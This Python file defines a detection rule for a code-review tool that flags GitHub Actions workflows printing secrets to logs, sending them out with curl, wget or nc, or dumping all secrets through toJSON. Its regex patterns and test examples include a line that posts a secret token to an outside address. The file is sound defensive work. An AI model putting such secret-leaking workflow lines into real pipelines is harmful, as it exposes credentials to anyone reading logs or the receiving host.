"""A secret that a workflow prints or sends."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Side, Unit
from hunkwise.signals.infrastructure.workflow_lines import workflow
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.tables.languages import ANY

_SECRET = r"\$\{\{\s*(?P<name>secrets\.\w+|toJSON\(\s*secrets\s*\)|github\.token)\s*\}\}"
_PRINTED = re.compile(
    rf"\b(?:echo|printf|cat\s*<<<|Write-(?:Host|Output)|print|console\.log)\b[^|>\n]*?{_SECRET}[^|>\n]*(?P<after>[|>][^\n]*)?", re.I
)
_SENT = re.compile(rf"\b(?:curl|wget|nc|Invoke-WebRequest|iwr)\b[^\n]*?{_SECRET}", re.I)
_ALL = re.compile(r"toJSON\(\s*secrets\s*\)", re.I)
_FINE = re.compile(
    r"(?i)--password-stdin|login|gpg|ssh-add|base64\s+(?:-d|--decode)|add-mask|\.netrc|\.npmrc|\.pypirc|GITHUB_ENV|sha256" r"|>\s*~?[/.]"
)


def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
    for keys, text, number in workflow(unit, side):
        if _ALL.search(text):
            yield Sighting((number,), {"name": "toJSON(secrets)", "what": "all secrets at once"}, strength=0.9)
        elif keys and keys[-1] in ("run", "script"):
            printed, sent = _PRINTED.search(text), _SENT.search(text)
            if printed and not _FINE.search(printed["after"] or "") and not _FINE.search(text[: printed.start()]):
                after = (printed["after"] or "").strip()
                yield Sighting((number,), {"name": printed["name"], "what": "printed into the log"}, strength=0.8 if not after else 0.3)
            elif sent and not re.search(
                r"(?i)authorization|api\.github\.com|-u\s|--user|header|-H\s|https?://\S*\.(?:github|slack|codecov|sonarcloud)\.", text
            ):
                yield Sighting((number,), {"name": sent["name"], "what": "sent to an address"}, strength=0.7)


SIGNAL = Signal(
    id="workflow-secret-exposed",
    title="A secret printed or sent",
    kind="workflow",
    category="information-exposure",
    severity="high",
    languages=ANY,
    promise=(
        "Tells of a workflow's script that prints a secret, writes it to a file that is kept, sends it to an address, "
        "or takes all secrets at once."
    ),
    why="Logs and artefacts are read by many, and what was sent is gone.",
    quiet="Secrets in `env` and `with`, and those given to a log-in on standard input.",
    remedy="Give the one secret to the one step through `env`, and print nothing of it.",
    cause="`{name}` is {what}.",
    since="0.2",
    maturity="stable",
    cwe="CWE-532",
    tactic="T1552",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "workflow",
            "on: push\njobs:\n  a:\n    steps:\n      - run: echo ${{ secrets.DEPLOY_KEY }}\n",
            path=".github/workflows/a.yml",
            line=5,
        ),
        Example(
            "workflow",
            'on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl -d "${{ secrets.TOKEN }}" https://example.org/a\n',
            path=".github/workflows/a.yml",
            line=6,
        ),
        Example(
            "workflow",
            "on: push\njobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: node a.js\n",
            path=".github/workflows/a.yml",
            line=6,
        ),
    ),
    stays_quiet=(
        Example(
            "workflow",
            "on: push\njobs:\n  a:\n    steps:\n      - env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n        run: ./deploy\n",
            path=".github/workflows/a.yml",
        ),
        Example(
            "workflow",
            'on: push\njobs:\n  a:\n    steps:\n      - run: echo "${{ secrets.TOKEN }}" | docker login -u a --password-stdin\n',
            path=".github/workflows/a.yml",
        ),
    ),
)
